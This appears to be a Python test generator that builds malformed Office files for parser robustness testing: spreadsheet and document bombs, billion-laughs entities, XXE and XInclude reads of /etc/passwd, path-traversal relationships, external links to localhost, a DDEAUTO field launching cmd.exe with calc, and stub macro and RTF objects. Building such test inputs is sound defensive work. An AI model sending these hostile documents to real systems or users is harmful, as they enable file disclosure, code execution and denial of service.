"""Workbooks and documents of Office that lie about their size, point at themselves or reach out of the file."""

from __future__ import annotations

import struct
from collections.abc import Iterator
from random import Random

from bench.harm.archives import BILLION, SHEET, WORKBOOK, zipped

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
DOCUMENTS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORDS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
HEAD = ("Purchase Order", "PO-4711")
CELL = '<c r="%s" t="inlineStr"><is><t>%s</t></is></c>'
HIDE = '<col min="1" max="16384" hidden="1"/>'
BRACKETS = "[" * 500 + "0" * 500
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def sheet(rows: str, more: str = "", before: str = "") -> str:
    """Return a sheet's XML: its rows, what stands behind and in front of them."""
    return f'<worksheet xmlns="{MAIN}" xmlns:r="{DOCUMENTS}">{before}<sheetData>{rows}</sheetData>{more}</worksheet>'


def book(rows: str, more: str = "", before: str = "", **parts: str) -> bytes:
    """Return a workbook of one sheet; `parts` are further parts by their path, `/` written as `__`."""
    others = {
        name.replace("__", "/") + (".rels" if name.endswith("rels") else ".xml"): text for name, text in parts.items()
    }
    every = {**WORKBOOK, SHEET: sheet(rows, more, before), **others}
    return zipped(**{name.replace(".rels.rels", ".rels"): text.encode() for name, text in every.items()})


def ordered() -> str:
    """Return two rows that look like an order's head."""
    return "".join(f'<row r="{n}">{CELL % (f"A{n}", text)}</row>' for n, text in enumerate(HEAD, 1))


def offices(chance: Random) -> Iterator[tuple[str, str, bytes]]:
    """Yield what each is, its file name and its bytes; `chance` fills in what may be anything."""
    yield from _cells()
    yield from _parts()
    yield from _words()
    yield from _old(chance)


def _cells() -> Iterator[tuple[str, str, bytes]]:
    letters = [
        f"{a}{b}{c}".strip()
        for a in " ABCDEFGHIJKLMNOPQRSTUVWX"
        for b in " ABCDEFGHIJKLMNOPQRSTUVWXYZ"
        for c in "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
    ]
    wide = "".join(f'<c r="{name}1"><v>1</v></c>' for name in list(dict.fromkeys(letters))[:16_384] if name.isalpha())
    yield "workbook: 16,384 columns", "wide.xlsx", book(f'<row r="1">{wide}</row>')
    yield (
        "workbook: 1,000,000 rows",
        "long.xlsx",
        book("".join(f'<row r="{n}"><c r="A{n}"><v>1</v></c></row>' for n in range(1, 1_000_001))),
    )
    yield (
        "workbook: a cell in each corner",
        "corners.xlsx",
        book(ordered() + '<row r="1048576">' + CELL % ("XFD1048576", "x") + "</row>"),
    )
    yield (
        "workbook: a cell in row 10^12",
        "far.xlsx",
        book(ordered() + '<row r="999999999999">' + CELL % ("ZZZZZZ999999999999", "x") + "</row>"),
    )
    yield (
        "workbook: the same cell 500,000 times",
        "same.xlsx",
        book('<row r="1">' + '<c r="A1"><v>1</v></c>' * 500_000 + "</row>"),
    )
    spans = "".join(f'<mergeCell ref="A{n}:XFD{n + 9}"/>' for n in range(1, 1_000, 10))
    yield (
        "workbook: a hundred bands merged over all columns",
        "bands.xlsx",
        book(ordered(), f"<mergeCells>{spans}</mergeCells>"),
    )
    over = "".join(f'<mergeCell ref="A1:Z{n}"/>' for n in range(2, 10_000))
    yield (
        "workbook: 10,000 merged cells over one another",
        "over.xlsx",
        book(ordered(), f"<mergeCells>{over}</mergeCells>"),
    )
    hidden = f"<cols>{HIDE * 5_000}</cols>"
    yield "workbook: 5,000 times all columns hidden", "columns.xlsx", book(ordered(), before=hidden)
    links = "".join(f'<hyperlink ref="A1:XFD1048576" r:id="r{n}" display="x"/>' for n in range(20_000))
    yield "workbook: links over the whole sheet", "links.xlsx", book(ordered(), f"<hyperlinks>{links}</hyperlinks>")
    rules = "".join(
        '<dataValidation type="list" sqref="A1:XFD1048576"><formula1>A1</formula1></dataValidation>'
        for _ in range(9_999)
    )
    yield (
        "workbook: rules over the whole sheet",
        "rules.xlsx",
        book(ordered(), f"<dataValidations>{rules}</dataValidations>"),
    )
    shared = '<row r="1"><c r="A1"><f t="shared" ref="A1:XFD1048576" si="0">A1</f></c></row>' + "".join(
        f'<row r="{n}"><c r="A{n}"><f t="shared" si="0"/></c></row>' for n in range(2, 50_000)
    )
    yield "workbook: a formula shared by the whole sheet", "shared.xlsx", book(shared)
    yield (
        "workbook: brackets 100,000 deep in a formula",
        "formula.xlsx",
        book(f'<row r="1"><c r="A1"><f>{"(" * 100_000}</f></c></row>'),
    )
    yield (
        "workbook: numbers that are none",
        "numbers.xlsx",
        book(
            "".join(
                f'<row r="{n}"><c r="A{n}" s="0"><v>{text}</v></c></row>'
                for n, text in enumerate(("1e999999", "-inf", "nan", "9" * 100_000, "1e-400", "0x10", ""), 1)
            )
        ),
    )
    yield (
        "workbook: dates before and after all time",
        "dates.xlsx",
        book(
            "".join(
                f'<row r="{n}"><c r="A{n}" t="d"><v>{text}</v></c></row>'
                for n, text in enumerate(("0000-00-00", "99999-12-31", "1900-02-29", "x"), 1)
            )
        ),
    )
    yield "workbook: elements 200,000 deep", "deep.xlsx", book("<row>" * 200_000)


def _parts() -> Iterator[tuple[str, str, bytes]]:
    strings = f'<sst xmlns="{MAIN}" count="1" uniqueCount="1">' + "<si><t>x</t></si>" * 1_500_000 + "</sst>"
    tied = WORKBOOK["xl/_rels/workbook.xml.rels"].replace(
        "</R", f'<Relationship Id="r2" Type="{DOCUMENTS}/sharedStrings" Target="sharedStrings.xml"/></R'
    )
    pointing = '<row r="1">' + '<c t="s"><v>99999999</v></c>' * 2 + "</row>"
    yield (
        "workbook: 1,500,000 shared texts",
        "strings.xlsx",
        _with(pointing, {"xl/sharedStrings.xml": strings, "xl/_rels/workbook.xml.rels": tied}),
    )
    laughs = f'{BILLION}<sst xmlns="{MAIN}"><si><t>&l9;</t></si></sst>'
    yield (
        "workbook: laughs in its shared texts",
        "laughs.xlsx",
        _with(pointing, {"xl/sharedStrings.xml": laughs, "xl/_rels/workbook.xml.rels": tied}),
    )
    names = "".join(f'<definedName name="n{n}">n{(n + 1) % 20_000}</definedName>' for n in range(20_000))
    yield (
        "workbook: 20,000 names that mean one another",
        "names.xlsx",
        _with(
            ordered(),
            {"xl/workbook.xml": WORKBOOK["xl/workbook.xml"].replace("</w", f"<definedNames>{names}</definedNames></w")},
        ),
    )
    many = "".join(f'<sheet name="S{n}" sheetId="{n}" r:id="r1"/>' for n in range(1, 5_000))
    yield (
        "workbook: 5,000 sheets that are the same",
        "sheets.xlsx",
        _with(ordered(), {"xl/workbook.xml": WORKBOOK["xl/workbook.xml"].replace("</sheets>", f"{many}</sheets>")}),
    )
    outside = WORKBOOK["xl/_rels/workbook.xml.rels"].replace(
        'Target="worksheets/sheet1.xml"', 'TargetMode="External" Target="http://127.0.0.1:9/sheet.xml"'
    )
    yield "workbook: its sheet lies on the net", "net.xlsx", _with(ordered(), {"xl/_rels/workbook.xml.rels": outside})
    above = WORKBOOK["xl/_rels/workbook.xml.rels"].replace("worksheets/sheet1.xml", "../../../../etc/passwd")
    yield (
        "workbook: its sheet is a file of the machine",
        "passwd.xlsx",
        _with(ordered(), {"xl/_rels/workbook.xml.rels": above}),
    )
    itself = WORKBOOK["xl/_rels/workbook.xml.rels"].replace("worksheets/sheet1.xml", "workbook.xml")
    yield "workbook: its sheet is the workbook", "itself.xlsx", _with(ordered(), {"xl/_rels/workbook.xml.rels": itself})
    form = "".join(f'<numFmt numFmtId="{200 + n}" formatCode="{BRACKETS}"/>' for n in range(5_000))
    cells = '<xf numFmtId="200"/>' * 100_000
    look = f'<styleSheet xmlns="{MAIN}"><numFmts>{form}</numFmts><cellXfs>{cells}</cellXfs></styleSheet>'
    styled = tied.replace("sharedStrings", "styles")
    yield (
        "workbook: 5,000 number formats of brackets",
        "styles.xlsx",
        _with(
            '<row r="1"><c r="A1" s="7"><v>1</v></c></row>' * 100,
            {"xl/styles.xml": look, "xl/_rels/workbook.xml.rels": styled},
        ),
    )
    outer = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    entity = outer + sheet(ordered().replace("PO-4711", "&e;"))
    yield "workbook: a cell that is a file of the machine", "entity.xlsx", _with("", {SHEET: entity})
    macro = zipped(
        **{
            **{name: text.encode() for name, text in {**WORKBOOK, SHEET: sheet(ordered())}.items()},
            "xl/vbaProject.bin": OLE + b"Auto_Open" * 100,
        }
    )
    yield "workbook: with a macro", "macro.xlsm", macro
    yield "workbook: cut in its directory", "cut.xlsx", macro[:-60]


def _with(rows: str, parts: dict[str, str]) -> bytes:
    return zipped(**{name: text.encode() for name, text in {**WORKBOOK, SHEET: sheet(rows), **parts}.items()})


def _words() -> Iterator[tuple[str, str, bytes]]:
    types = (
        WORKBOOK["[Content_Types].xml"]
        .replace("/xl/workbook.xml", "/word/document.xml")
        .replace("spreadsheetml.sheet.main", "wordprocessingml.document.main")
    )
    relations = WORKBOOK["_rels/.rels"].replace("xl/workbook.xml", "word/document.xml")

    def document(body: str, before: str = "", **parts: str) -> bytes:
        text = f'{before}<w:document xmlns:w="{WORDS}" xmlns:r="{DOCUMENTS}"><w:body>{body}</w:body></w:document>'
        return zipped(
            **{
                "[Content_Types].xml": types.encode(),
                "_rels/.rels": relations.encode(),
                "word/document.xml": text.encode(),
            }
        )

    said = "<w:p><w:r><w:t>Purchase order PO-4711</w:t></w:r></w:p>"
    yield "Word: laughs in its text", "laughs.docx", document(said + "<w:p><w:r><w:t>&l9;</w:t></w:r></w:p>", BILLION)
    yield (
        "Word: tables 20,000 deep",
        "tables.docx",
        document("<w:tbl><w:tr><w:tc>" * 20_000 + said + "</w:tc></w:tr></w:tbl>" * 20_000),
    )
    cell = f'<w:tc><w:tcPr><w:gridSpan w:val="2000000000"/><w:vMerge/></w:tcPr>{said}</w:tc>'
    yield (
        "Word: a cell over 2,000,000,000 columns",
        "span.docx",
        document(f"<w:tbl><w:tr>{cell * 3}</w:tr></w:tbl>" * 3),
    )
    yield "Word: 100,000 rows", "rows.docx", document(f"<w:tbl>{f'<w:tr><w:tc>{said}</w:tc></w:tr>' * 100_000}</w:tbl>")
    yield (
        "Word: 500,000 pieces in one line",
        "pieces.docx",
        document(f"<w:p>{'<w:r><w:t>x</w:t></w:r>' * 500_000}</w:p>"),
    )
    program = '<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText>'
    fields = f'<w:p><w:r><w:fldChar w:fldCharType="begin"/>{program}</w:r></w:p>'
    yield "Word: a field that starts a program", "field.docx", document(said + fields)
    outside = zipped(
        **{
            "[Content_Types].xml": types.encode(),
            "_rels/.rels": relations.replace("word/document.xml", "http://127.0.0.1:9/x")
            .replace("Id=", 'TargetMode="External" Id=')
            .encode(),
            "word/document.xml": b"<w/>",
        }
    )
    yield "Word: its text lies on the net", "net.docx", outside
    included = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    chunk = f'<w:altChunk r:id="r9"/>{said}{included}'
    yield "Word: text that is another file", "chunk.docx", document(chunk)


def _old(chance: Random) -> Iterator[tuple[str, str, bytes]]:
    def compound(fat: bytes, name: str, sectors: int = 1, more: bytes = b"") -> bytes:
        head = (
            OLE
            + bytes(16)
            + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
            + bytes(6)
            + struct.pack("<LLLLLLLLL", 0, sectors, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
            + struct.pack("<L", 0)
            + b"\xff" * 432
        )
        entries = _entry("Root Entry", 5, 1, 0xFFFFFFFE, 0) + _entry(name, 2, 1, 2, 1 << 30) + bytes(256)
        return head + fat.ljust(512, b"\xff") + entries + more.ljust(512, b"\0")

    loop = struct.pack("<LLL", 0xFFFFFFFD, 1, 2)
    for name in ("Workbook", "WordDocument", "__properties_version1.0"):
        yield f"compound file: {name} whose chain is a loop", "loop.xls", compound(loop, name)
    yield "compound file: 4,000 million sectors, it says", "sectors.xls", compound(loop, "Workbook", 0xFFFFFFFF)
    records = (
        struct.pack("<HHHHHH", 0x809, 16, 0x600, 5, 0, 0)
        + bytes(8)
        + b"".join(
            struct.pack("<HH", chance.randrange(0x900), chance.randrange(64)) + chance.randbytes(20) for _ in range(20)
        )
    )
    yield (
        "old workbook: records of noise",
        "noise.xls",
        compound(struct.pack("<LLL", 0xFFFFFFFD, 0xFFFFFFFE, 0xFFFFFFFE), "Workbook", more=records),
    )
    yield "old workbook: bare records of Excel 4", "bare.xls", b"\x09\x04\x06\0\0\0\x10\0" + chance.randbytes(4096)
    yield "rich text: brackets 200,000 deep", "deep.rtf", b"{\\rtf1" + b"{" * 200_000 + b"Purchase order"
    yield "rich text: an object inside", "object.rtf", b"{\\rtf1{\\object\\objocx{\\*\\objdata 0105000002000000}}}"


def _entry(name: str, kind: int, child: int, start: int, size: int) -> bytes:
    """Return an entry of a compound file's directory; its neighbours are itself."""
    text = f"{name}\0".encode("utf-16-le")
    return (
        text.ljust(64, b"\0")
        + struct.pack("<HBBLLL", len(text), kind, 1, 1, 1, child)
        + bytes(36)
        + struct.pack("<LLL", start, size, 0)
    )
